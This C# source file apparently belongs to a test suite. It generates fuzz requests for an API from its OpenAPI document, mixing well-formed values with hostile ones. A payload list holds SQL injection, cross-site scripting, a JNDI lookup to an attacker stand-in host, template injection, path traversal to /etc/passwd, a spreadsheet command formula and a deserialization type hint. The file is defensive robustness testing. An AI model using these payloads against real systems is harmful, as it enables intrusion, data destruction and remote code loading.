using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace CustomerCare.Resilience.Tests.Fuzz;

/// <summary>One operation of the OpenAPI document: its path, method, parameters and JSON body schema.</summary>
public sealed record Operation(string Method, string Path, string OperationId, IReadOnlyList<Parameter> Parameters, JsonElement? Body);

public sealed record Parameter(string Name, string In, bool Required, JsonElement Schema);

/// <summary>A request to send: what it is (for the failure message), the URL, headers and raw body bytes.</summary>
public sealed record FuzzCase(string Description, string Method, string Url, IReadOnlyDictionary<string, string> Headers, byte[]? Body, string ContentType);

/// <summary>
/// Generates requests from the OpenAPI document: well-formed ones (values of the declared types, within their enums) and
/// hostile ones (wrong types, huge strings, deep nesting, invalid UTF-8, unknown enum values, negative and huge numbers,
/// SQL and script injection, broken headers). Deterministic for a given <see cref="Random"/>.
/// </summary>
public sealed class FuzzCases(JsonElement document, Random random, IReadOnlyDictionary<string, string> knownIds)
{
    private static readonly string[] Hostile =
    [
        "' OR '1'='1' --", "'; DROP TABLE complaints; --", "\" OR 1=1 --", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "${jndi:ldap://attacker.example/a}", "{{7*7}}", "../../../../etc/passwd", "%00", "\u202e\u0000evil", "=cmd|' /C calc'!A0",
        "💥🔥", "\ud83d", "null", "undefined", "NaN", "-1", "1e309", "0x7fffffff", "    ", "",
    ];

    private static readonly object[] HostileNumbers = [-1, 0, int.MinValue, long.MaxValue, 1e308, -1e308, 2.5, 9223372036854775808m];

    public static IReadOnlyList<Operation> Operations(JsonElement document)
    {
        var operations = new List<Operation>();
        foreach (var path in document.GetProperty("paths").EnumerateObject())
        {
            foreach (var method in path.Value.EnumerateObject())
            {
                if (method.Name is "parameters" or "summary" or "description")
                {
                    continue;
                }

                var parameters = method.Value.TryGetProperty("parameters", out var ps)
                    ? ps.EnumerateArray().Select(p => new Parameter(p.GetProperty("name").GetString()!, p.GetProperty("in").GetString()!,
                        p.TryGetProperty("required", out var r) && r.GetBoolean(), p.TryGetProperty("schema", out var s) ? s : default)).ToList()
                    : [];
                JsonElement? body = method.Value.TryGetProperty("requestBody", out var rb) && rb.GetProperty("content").TryGetProperty("application/json", out var json)
                    ? json.GetProperty("schema")
                    : null;
                operations.Add(new Operation(method.Name.ToUpperInvariant(), path.Name, method.Value.GetProperty("operationId").GetString()!, parameters, body));
            }
        }

        return operations;
    }

    public FuzzCase Next(Operation operation)
    {
        var kind = random.Next(14);
        var headers = new Dictionary<string, string>(StringComparer.OrdinalIgnoreCase);
        var contentType = "application/json";
        var url = Url(operation, kind == 1);
        JsonNode? body = operation.Body is { } schema ? Value(schema, depth: 0) : null;
        byte[]? raw = null;
        string description;

        switch (kind)
        {
            case 0:
                description = "well-formed";
                break;
            case 1:
                description = "hostile path and query values";
                break;
            case 2 when body is JsonObject o && o.Count > 0:
                var field = Pick(o.Select(p => p.Key).ToList());
                o[field] = Pick<JsonNode?>([JsonValue.Create(12345), JsonValue.Create(true), new JsonArray(1, 2), new JsonObject { ["a"] = 1 }, JsonValue.Create("text")]);
                description = $"wrong type for {field}";
                break;
            case 3 when body is JsonObject o && o.Count > 0:
                var huge = Pick(o.Select(p => p.Key).ToList());
                o[huge] = new string('Ω', random.Next(2) == 0 ? 5_000 : 300_000);
                description = $"huge string in {huge}";
                break;
            case 4:
                raw = Encoding.UTF8.GetBytes(new string('[', 5_000) + new string(']', 5_000));
                description = "deeply nested body";
                break;
            case 5:
                raw = [.. Encoding.UTF8.GetBytes("{\"title\":\""), 0xC3, 0x28, 0xFF, 0xFE, .. Encoding.UTF8.GetBytes("\",\"description\":\""), 0xED, 0xA0, 0x80,
                    .. Encoding.UTF8.GetBytes("\"}")];
                description = "invalid UTF-8";
                break;
            case 6 when body is JsonObject o && o.Count > 0:
                var enumField = Pick(o.Select(p => p.Key).ToList());
                o[enumField] = "notAKnownValue";
                description = $"unknown value in {enumField}";
                break;
            case 7 when body is JsonObject o && o.Count > 0:
                var number = Pick(o.Select(p => p.Key).ToList());
                o[number] = JsonValue.Create(Pick(HostileNumbers));
                description = $"extreme number in {number}";
                break;
            case 8 when body is JsonObject o && o.Count > 0:
                foreach (var key in o.Where(p => p.Value is JsonValue v && v.GetValueKind() == JsonValueKind.String).Select(p => p.Key).ToList())
                {
                    o[key] = Pick(Hostile);
                }

                description = "injection strings in every text field";
                break;
            case 9:
                raw = Encoding.UTF8.GetBytes(Pick(["", "null", "[]", "\"text\"", "{", "{\"a\":}", "{}", "123", "{\"$type\":\"System.IO.FileInfo\"}"]));
                description = "empty, null or malformed body";
                break;
            case 10:
                contentType = Pick(["text/plain", "application/xml", "multipart/form-data; boundary=x", "application/json; charset=ebcdic", "*/*"]);
                description = $"content type {contentType}";
                break;
            case 11:
                headers["If-Match"] = Pick(["*", "\"\"", "W/\"1\"", "\"not-a-version\"", "\"99999999999999999999\"", new string('"', 300)]);
                headers["Idempotency-Key"] = Pick(["", " ", new string('k', 5_000), "key\twith\ttabs", "key \"quoted\" \\ slashed"]);
                description = "broken If-Match and Idempotency-Key";
                break;
            case 12:
                headers["Accept"] = Pick(["application/xml", "text/csv", "*/*;q=abc", "text/html", "application/json;q=0"]);
                headers["Accept-Language"] = new string('x', 4_000);
                description = "odd Accept headers";
                break;
            default:
                body = body is JsonObject ? new JsonObject { ["unexpected"] = Pick(Hostile) } : body;
                description = "required fields missing";
                break;
        }

        raw ??= body is null ? null : Encoding.UTF8.GetBytes(body.ToJsonString());
        if (operation.Method is "GET" or "DELETE" && kind is not (4 or 5 or 9))
        {
            raw = null;
        }

        return new FuzzCase($"{operation.OperationId} [{kind}: {description}]", operation.Method, url, headers, raw, contentType);
    }

    private string Url(Operation operation, bool hostile)
    {
        var path = operation.Path;
        var query = new List<string>();
        foreach (var parameter in operation.Parameters)
        {
            var value = hostile ? HostileParameter() : Scalar(parameter);
            if (parameter.In == "path")
            {
                path = path.Replace("{" + parameter.Name + "}", Uri.EscapeDataString(value), StringComparison.Ordinal);
            }
            else if (parameter.In == "query" && (parameter.Required || random.Next(2) == 0))
            {
                query.Add($"{Uri.EscapeDataString(parameter.Name)}={Uri.EscapeDataString(value)}");
            }
        }

        return query.Count == 0 ? path : $"{path}?{string.Join('&', query)}";

        string Scalar(Parameter parameter)
        {
            if (parameter.In == "path" && parameter.Name.EndsWith("id", StringComparison.OrdinalIgnoreCase))
            {
                var resource = operation.Path.Split('/')[3];
                return random.Next(4) == 0 ? Guid.NewGuid().ToString() : knownIds.GetValueOrDefault($"{resource}.{parameter.Name}", Guid.NewGuid().ToString());
            }

            return Value(parameter.Schema, 0)?.ToString() ?? string.Empty;
        }
    }

    private string HostileParameter() => Pick(
        [.. Hostile, "not-a-guid", "00000000-0000-0000-0000-000000000000", new string('9', 400), "-99999999999", "2026-13-45", "true", new string('a', 3_000)]);

    /// <summary>A well-formed value of a schema: the declared type, an allowed enum value, ids and dates in their formats.</summary>
    private JsonNode? Value(JsonElement schema, int depth)
    {
        if (schema.ValueKind != JsonValueKind.Object || depth > 6)
        {
            return null;
        }

        if (schema.TryGetProperty("$ref", out var reference))
        {
            var name = reference.GetString()!.Split('/').Last();
            return Value(document.GetProperty("components").GetProperty("schemas").GetProperty(name), depth + 1);
        }

        foreach (var composite in new[] { "allOf", "oneOf", "anyOf" })
        {
            if (schema.TryGetProperty(composite, out var parts))
            {
                return Value(parts.EnumerateArray().First(), depth + 1);
            }
        }

        if (schema.TryGetProperty("enum", out var values))
        {
            var options = values.EnumerateArray().ToList();
            return options.Count == 0 ? null : JsonNode.Parse(Pick(options).GetRawText());
        }

        var type = schema.TryGetProperty("type", out var t) ? t.GetString() : "object";
        var format = schema.TryGetProperty("format", out var f) ? f.GetString() : null;
        switch (type)
        {
            case "object":
                var result = new JsonObject();
                if (schema.TryGetProperty("properties", out var properties))
                {
                    foreach (var property in properties.EnumerateObject())
                    {
                        result[property.Name] = Value(property.Value, depth + 1);
                    }
                }

                return result;
            case "array":
                var array = new JsonArray();
                for (var i = random.Next(3); i > 0; i--)
                {
                    array.Add(schema.TryGetProperty("items", out var items) ? Value(items, depth + 1) : null);
                }

                return array;
            case "integer":
                return JsonValue.Create(random.Next(1, 100));
            case "number":
                return JsonValue.Create(Math.Round(random.NextDouble() * 10, 2));
            case "boolean":
                return JsonValue.Create(random.Next(2) == 0);
            default:
                return format switch
                {
                    "uuid" => Guid.NewGuid().ToString(),
                    "date-time" => DateTimeOffset.UtcNow.AddDays(-random.Next(30)).ToString("O"),
                    "date" => DateOnly.FromDateTime(DateTime.UtcNow.AddDays(-random.Next(30))).ToString("O"),
                    "email" => $"fuzz{random.Next(1000)}@example.com",
                    "uri" => "https://hooks.example.com/care",
                    "duration" or "time-span" => "PT2H",
                    _ => $"Fuzz text {random.Next(10_000)}",
                };
        }
    }

    private T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];
}
